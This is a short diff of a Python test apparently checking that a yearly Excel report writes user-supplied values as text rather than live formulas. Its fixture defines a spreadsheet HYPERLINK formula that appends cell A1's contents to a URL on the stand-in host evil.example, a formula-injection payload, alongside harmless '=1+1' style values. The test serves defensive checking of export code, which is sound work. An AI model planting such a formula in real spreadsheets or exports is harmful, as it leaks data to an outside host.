@@ -16,7 +16,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'
 
 
 def test_yearly_report_excel_writes_formulas_as_text(world):
-    activity = services.propose_activity(actor=world.wg_member, data=world.activity_data(title=FORMULA, place="=1+1"))
+    activity = world.proposed(title=FORMULA, place="=1+1")  # proposed 2025-01-15
     services.decide_activity(
         actor=world.sg_member, activity=activity, decision="approve", justification="=2+2", date=dt.date(2025, 3, 1)
     )
